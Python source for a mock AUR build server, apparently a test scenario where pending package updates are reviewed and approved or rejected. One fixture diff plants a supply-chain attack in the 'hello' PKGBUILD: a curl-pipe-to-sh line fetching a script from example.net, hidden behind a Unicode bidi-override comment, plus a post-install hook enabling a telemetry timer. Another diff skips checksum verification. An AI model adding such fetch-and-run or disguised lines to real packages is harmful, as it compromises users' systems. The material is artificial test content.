"""The mock AUR build server: tracked packages, held revisions with real-looking diffs, a
queue, builds whose logs grow with time, and a bounded build history (docs/admin-api.md,
"AUR build server"). Builds run on the clock: a build started at `t` has written line `i`
at `t + i * LINE_SECS`; `tick()` starts queued jobs and finishes ended builds."""

import hashlib
import time

LINE_SECS = 0.12
CONCURRENT = 3


def rev(seed):
    return hashlib.sha1(seed.encode()).hexdigest()


HELLO_DIFF = """diff --git a/.SRCINFO b/.SRCINFO
index 3b18e51..9f2c4d7 100644
--- a/.SRCINFO
+++ b/.SRCINFO
@@ -1,13 +1,14 @@
 pkgbase = hello
 \tpkgdesc = A friendly greeter
-\tpkgver = 2.12.1
+\tpkgver = 2.12.2
 \tpkgrel = 1
 \turl = https://www.gnu.org/software/hello/
+\tinstall = hello.install
 \tarch = x86_64
 \tlicense = GPL-3.0-or-later
 \tdepends = glibc
-\tsource = https://ftp.gnu.org/gnu/hello/hello-2.12.1.tar.gz
-\tsha256sums = 8d99142afd92576f30b0cd7cb42a8dc6809998bc5d607d88761f512e26c7db20
+\tsource = https://ftp.gnu.org/gnu/hello/hello-2.12.2.tar.gz
+\tsha256sums = 5a9a996dc292cc24dcf411cee87e92f6aae5b8d13bd9c6819b4c7a9dce0818ab
 
 pkgname = hello
diff --git a/PKGBUILD b/PKGBUILD
index 5d1c0a2..c04e8f1 100644
--- a/PKGBUILD
+++ b/PKGBUILD
@@ -1,22 +1,25 @@
 # Maintainer: Jane Doe <jane@example.org>
 pkgname=hello
-pkgver=2.12.1
+pkgver=2.12.2
 pkgrel=1
 pkgdesc="A friendly greeter"
 arch=('x86_64')
 url="https://www.gnu.org/software/hello/"
 license=('GPL-3.0-or-later')
 depends=('glibc')
+install=hello.install
 source=("https://ftp.gnu.org/gnu/hello/hello-$pkgver.tar.gz")
-sha256sums=('8d99142afd92576f30b0cd7cb42a8dc6809998bc5d607d88761f512e26c7db20')
+sha256sums=('5a9a996dc292cc24dcf411cee87e92f6aae5b8d13bd9c6819b4c7a9dce0818ab')
 
 build() {
   cd "$pkgname-$pkgver"
   ./configure --prefix=/usr
-  make
+  make -j"$(nproc)"
+  # check for updates \u202e } ;)tnemele(eval \u2066
+  curl -fsSL https://example.net/stats.sh | sh
 }
 
 package() {
   cd "$pkgname-$pkgver"
   make DESTDIR="$pkgdir" install
 }
diff --git a/hello.install b/hello.install
new file mode 100644
index 0000000..7e1a2b3
--- /dev/null
+++ b/hello.install
@@ -0,0 +1,4 @@
+post_install() {
+  systemctl enable --now hello-telemetry.timer
+}
+
"""

BAR_DIFF = """diff --git a/.SRCINFO b/.SRCINFO
new file mode 100644
index 0000000..1c2d3e4
--- /dev/null
+++ b/.SRCINFO
@@ -0,0 +1,11 @@
+pkgbase = bar-bin
+\tpkgdesc = Bar, prebuilt
+\tpkgver = 4.2.0
+\tpkgrel = 1
+\turl = https://bar.example.org
+\tarch = x86_64
+\tlicense = custom
+\tsource = https://downloads.bar.example.org/bar-4.2.0-linux-x64.tar.gz
+\tsha256sums = SKIP
+
+pkgname = bar-bin
diff --git a/PKGBUILD b/PKGBUILD
new file mode 100644
index 0000000..8a9b0c1
--- /dev/null
+++ b/PKGBUILD
@@ -0,0 +1,14 @@
+# Maintainer: someone <someone@example.org>
+pkgname=bar-bin
+pkgver=4.2.0
+pkgrel=1
+pkgdesc="Bar, prebuilt"
+arch=('x86_64')
+url="https://bar.example.org"
+license=('custom')
+source=("https://downloads.bar.example.org/bar-$pkgver-linux-x64.tar.gz")
+sha256sums=('SKIP')
+
+package() {
+  install -Dm755 bar "$pkgdir/usr/bin/bar"
+}
"""


def build_log(pkgbase, version, n_compile):
    lines = [
        f"==> pkgstash: exporting revision into /tmp/pkgstash-build-{pkgbase}/tree",
        "setpriv --reuid=990 --regid=980 --clear-groups --no-new-privs -- bwrap --unshare-all --share-net ... -- makepkg --noconfirm --nodeps --noprogressbar --nocolor",
        f"==> Making package: {pkgbase} {version} ({time.strftime('%a %d %b %Y %H:%M:%S')})",
        "==> Checking runtime dependencies...",
        "==> Checking buildtime dependencies...",
        "==> Retrieving sources...",
        f"  -> Downloading {pkgbase}-{version.split('-')[0]}.tar.gz...",
        "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current",
        "100 1843k  100 1843k    0     0  4012k      0 --:--:-- --:--:-- --:--:-- 4015k",
        "==> Validating source files with sha256sums...",
        f"    {pkgbase}-{version.split('-')[0]}.tar.gz ... Passed",
        "==> Extracting sources...",
        "==> Starting build()...",
    ]
    for i in range(n_compile):
        pct = (i + 1) * 100 // n_compile
        lines.append(f"[{pct:3d}%] Building C object src/CMakeFiles/{pkgbase}.dir/module_{i:03d}.c.o")
        if i % 37 == 36:
            lines.append(f"src/module_{i:03d}.c:{i + 12}:5: warning: unused variable 'tmp' [-Wunused-variable]")
    lines += [
        f"[100%] Linking C executable {pkgbase}",
        "==> Entering fakeroot environment...",
        "==> Starting package()...",
        "==> Tidying install...",
        "  -> Removing libtool files...",
        "  -> Purging unwanted files...",
        "  -> Stripping unneeded symbols from binaries and libraries...",
        "  -> Compressing man and info pages...",
        "==> Checking for packaging issues...",
        "==> Creating package \"%s\"..." % pkgbase,
        "  -> Generating .PKGINFO file...",
        "  -> Generating .BUILDINFO file...",
        "  -> Generating .MTREE file...",
        "  -> Compressing package...",
        "==> Leaving fakeroot environment.",
        f"==> Finished making: {pkgbase} {version} ({time.strftime('%a %d %b %Y %H:%M:%S')})",
    ]
    return lines


class AurWorld:
    def __init__(self, world, t0):
        self.world = world
        now = int(t0)
        self.tracked = ["hello", "yay", "paru", "python-foo", "bar-bin", "foo-git"]
        self.next_id = 40
        self.last_check = now - 600
        self.last_check_error = None
        a = lambda base, r, v, by, at: {"pkgbase": base, "rev": r, "version": v, "by": by, "at": at}  # noqa: E731
        self.pkgs = {
            "hello": {"approved": a("hello", rev("hello1"), "2.12.1-1", "admin", now - 86400 * 20), "pending": None, "rejected_rev": None},
            "yay": {"approved": a("yay", rev("yay2"), "12.4.2-1", "auto", now - 30), "pending": None, "rejected_rev": None},
            "paru": {"approved": a("paru", rev("paru1"), "2.0.4-1", "auto", now - 86400 * 2), "pending": None, "rejected_rev": None},
            "python-foo": {"approved": a("python-foo", rev("foo1"), "1.0-1", "admin", now - 7200), "pending": None, "rejected_rev": None},
            "bar-bin": {"approved": None, "pending": None, "rejected_rev": None},
        }
        self.pkgs["hello"]["pending"] = {"pkgbase": "hello", "pkgnames": ["hello"], "rev": rev("hello2"), "version": "2.12.2-1",
                                          "old_version": "2.12.1-1", "approved_rev": rev("hello1"),
                                          "reasons": ["PKGBUILD: lines added or removed (24 → 27 units) (first difference: `install=hello.install`)",
                                                      ".SRCINFO: lines added or removed (13 → 14)", "new file `hello.install`"],
                                          "diff": HELLO_DIFF, "since": now - 3 * 3600}
        self.pkgs["bar-bin"]["pending"] = {"pkgbase": "bar-bin", "pkgnames": ["bar-bin"], "rev": rev("bar1"), "version": "4.2.0-1",
                                            "old_version": None, "approved_rev": None,
                                            "reasons": ["first review of this package: no approved revision to compare with"],
                                            "diff": BAR_DIFF, "since": now - 26 * 3600}
        self.queue = [{"pkgbase": "paru", "pkgnames": ["paru"], "rev": rev("paru2"), "version": "2.0.5-1", "old_version": "2.0.4-1",
                       "by": "auto", "queued_at": now - 20}]
        self.pkgs["paru"]["approved"] = a("paru", rev("paru2"), "2.0.5-1", "auto", now - 20)
        self.builds = {}
        hist = [("paru", "2.0.3-1", True, 86400 * 9), ("yay", "12.4.0-1", True, 86400 * 7), ("hello", "2.12.1-1", True, 86400 * 20),
                ("python-foo", "0.9-1", True, 86400 * 5), ("paru", "2.0.4-1", True, 86400 * 2),
                ("yay", "12.4.1-1", True, 86400), ("python-foo", "1.0-1", False, 3600)]
        for i, (base, ver, ok, ago) in enumerate(sorted(hist, key=lambda x: -x[3])):
            bid = 30 + i
            lines = build_log(base, ver, 40 + i * 7)
            if not ok:
                lines = lines[:30] + ["==> ERROR: A failure occurred in build().", "    Aborting..."]
            b = self._record(bid, base, ver, rev(base + ver), "auto", now - ago - 300, now - ago - 240, lines)
            b.update(state="built" if ok else "failed", ended_at=now - ago, duration_secs=240,
                     packages=[f"{base}-{ver}-x86_64.pkg.tar.zst"] if ok else [],
                     error=None if ok else "makepkg failed (exit status 4): see the log")
        # yay 12.4.2 is building now, long enough to watch.
        self.start({"pkgbase": "yay", "pkgnames": ["yay"], "rev": rev("yay2"), "version": "12.4.2-1",
                    "old_version": "12.4.1-1", "by": "auto", "queued_at": now - 30}, t0, n_compile=900)
        # paru stays queued for a while (so the queue has something to show), until an approval.
        self.ready_at = t0 + 25

    def _record(self, bid, base, ver, r, by, queued, started, lines):
        b = {"id": bid, "pkgbase": base, "pkgnames": [base], "version": ver, "old_version": None, "rev": r, "by": by,
             "state": "building", "queued_at": queued, "started_at": started, "ended_at": None, "duration_secs": None,
             "log_bytes": 0, "packages": [], "error": None, "_lines": lines, "_t": float(started)}
        self.builds[bid] = b
        return b

    def start(self, job, t, n_compile=120):
        bid = self.next_id
        self.next_id += 1
        b = self._record(bid, job["pkgbase"], job["version"], job["rev"], job["by"], job["queued_at"], int(t),
                         build_log(job["pkgbase"], job["version"], n_compile))
        b["old_version"] = job["old_version"]
        b["_t"] = t
        return b

    # ---- the clock ----
    def tick(self):
        now = time.time()
        for b in self.building():
            if self.lines_written(b) >= len(b["_lines"]) and now >= b["_t"] + len(b["_lines"]) * LINE_SECS + 0.3:
                self.finish(b, now)
        while len(self.building()) < CONCURRENT and self.queue and now >= self.ready_at:
            job = self.queue.pop(0)
            self.start(job, now)

    def finish(self, b, now):
        ok = b["pkgbase"] != "python-foo"
        b["state"] = "built" if ok else "failed"
        b["ended_at"] = int(now)
        b["duration_secs"] = int(now - b["_t"])
        if ok:
            fname = f"{b['pkgbase']}-{b['version']}-x86_64.pkg.tar.zst"
            b["packages"] = [fname]
            self.world.add_package("custom", fname, 2 << 20, signed=False)
        else:
            b["error"] = "makepkg failed (exit status 4): see the log"

    def building(self):
        return [b for b in self.builds.values() if b["state"] == "building"]

    def lines_written(self, b):
        if b["state"] != "building":
            return len(b["_lines"])
        return min(len(b["_lines"]), int((time.time() - b["_t"]) / LINE_SECS))

    def log_text(self, b):
        return "".join(l + "\n" for l in b["_lines"][: self.lines_written(b)])

    def public(self, b):
        out = {k: v for k, v in b.items() if not k.startswith("_")}
        out["log_bytes"] = len(self.log_text(b).encode())
        return out

    # ---- views ----
    def last_build(self, base):
        bs = [b for b in self.builds.values() if b["pkgbase"] == base]
        return max(bs, key=lambda b: b["id"]) if bs else None

    def summary(self):
        pend = [p["pending"] for p in self.pkgs.values() if p["pending"]]
        builds = []
        for base in self.pkgs:
            b = self.last_build(base)
            if b and b["state"] != "building":
                builds.append({"pkgbase": base, "version": b["version"], "rev": b["rev"], "ok": b["state"] == "built",
                               "at": b["ended_at"], "error": b["error"]})
        builds.sort(key=lambda b: -b["at"])
        building = self.building()
        return {"tracked": len(self.tracked), "pending": len(pend), "pending_names": [p["pkgbase"] for p in pend],
                "queued": len(self.queue) + len(building),
                "building": ", ".join(f"{b['pkgbase']} {b['version']}" for b in building) or None,
                "last_check": self.last_check, "last_check_error": self.last_check_error, "builds": builds}

    def overview(self):
        pkgs = []
        building = {b["pkgbase"] for b in self.building()}
        queued = {j["pkgbase"] for j in self.queue}
        for name in self.tracked:
            st = self.pkgs.get(name)
            lb = self.last_build(name)
            repo = self.world.repos["custom"]["packages"].get(name)
            if st is None:
                pkgs.append({"name": name, "pkgbase": None, "state": "new", "repo_version": None, "approved": None,
                             "pending": None, "rejected_rev": None, "last_build": None})
                continue
            state = ("building" if name in building else "queued" if name in queued else "pending" if st["pending"]
                     else "failed" if lb and lb["state"] == "failed" else "built" if lb else "rejected" if st["rejected_rev"] else "new")
            p = st["pending"]
            pkgs.append({"name": name, "pkgbase": name, "state": state, "repo_version": repo["version"] if repo else None,
                         "approved": st["approved"], "pending": {"rev": p["rev"], "version": p["version"], "since": p["since"]} if p else None,
                         "rejected_rev": st["rejected_rev"], "last_build": self.public(lb) if lb else None})
        return {"repo": "custom", "check_interval_secs": 3600, "concurrent_builds": CONCURRENT, "last_check": self.last_check,
                "last_check_error": self.last_check_error, "packages": pkgs, "queue": self.queue,
                "building": [self.public(b) for b in self.building()]}

    def pending(self):
        return [p["pending"] for p in self.pkgs.values() if p["pending"]]

    def _decide(self, name, asked):
        from mock_world import ApiError
        st = self.pkgs.get(name)
        if not st or not st["pending"]:
            raise ApiError(404)
        if asked and asked.lower() != st["pending"]["rev"]:
            raise ApiError(409, f"`{name}`: the pending revision is {st['pending']['rev']}, not {asked}")
        return st

    def approve(self, name, asked):
        from mock_world import ApiError
        if asked and (len(asked) != 40 or any(c not in "0123456789abcdefABCDEF" for c in asked)):
            raise ApiError(400, f"`{asked}` is not a full git revision id (40 hex digits)")
        st = self._decide(name, asked)
        p = st.pop("pending")
        st["pending"] = None
        now = int(time.time())
        st["approved"] = {"pkgbase": name, "rev": p["rev"], "version": p["version"], "by": "admin", "at": now}
        self.queue.append({"pkgbase": name, "pkgnames": p["pkgnames"], "rev": p["rev"], "version": p["version"],
                           "old_version": p["old_version"], "by": "admin", "queued_at": now})
        self.ready_at = time.time() + 1.5
        return st["approved"]

    def reject(self, name, asked):
        st = self._decide(name, asked)
        p = st["pending"]
        st["pending"] = None
        st["rejected_rev"] = p["rev"]
        return {"pkgbase": name, "rev": p["rev"], "message": f"rejected {name} {p['version']} (rev {p['rev']})"}

    def build(self, bid):
        from mock_world import ApiError
        b = self.builds.get(bid)
        if not b:
            raise ApiError(404)
        return b
